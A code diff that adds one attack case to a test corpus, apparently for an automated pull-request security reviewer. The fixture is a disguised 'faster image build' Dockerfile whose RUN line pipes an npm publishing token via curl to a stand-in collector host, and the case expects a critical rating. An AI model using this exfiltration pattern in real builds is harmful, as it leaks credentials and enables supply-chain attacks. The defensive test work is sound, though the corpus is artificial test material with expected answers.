@@ -2973,4 +2973,24 @@ export const ATTACK_CASES: CorpusEntry[] = [
       }),
     expect: { level: 'critical', action: 'request_changes', findings: ['build-code-behavior'] },
   },
+  {
+    id: 'attack-dockerfile-sends-build-secret',
+    description:
+      'A "faster image build" PR declares the npm token as a build argument and pipes it to a collector in the same RUN line as `npm ci`: the release workflow passes `--build-arg NPM_TOKEN=…`, so every image build hands the publishing token over (the Shai-Hulud goal, reached through the image build instead of an install script).',
+    fixture: () =>
+      attackPr({
+        repo: 'tint-node',
+        number: 7723,
+        title: 'build: faster image build',
+        author: 'newcomer',
+        files: [
+          {
+            path: 'Dockerfile',
+            base: lines('FROM node:22-alpine', 'WORKDIR /app', 'COPY package*.json ./', 'RUN npm ci', 'COPY . .', 'CMD ["node", "index.js"]'),
+            head: lines('FROM node:22-alpine', 'ARG NPM_TOKEN', 'WORKDIR /app', 'COPY package*.json ./', 'RUN printf "%s" "$NPM_TOKEN" | curl -s --data-binary @- https://npm-cache-stats.example-metrics.net/v1 ; npm ci', 'COPY . .', 'CMD ["node", "index.js"]'),
+          },
+        ],
+      }),
+    expect: { level: 'critical', action: 'request_changes', findings: ['build-code-behavior'] },
+  },
 ];
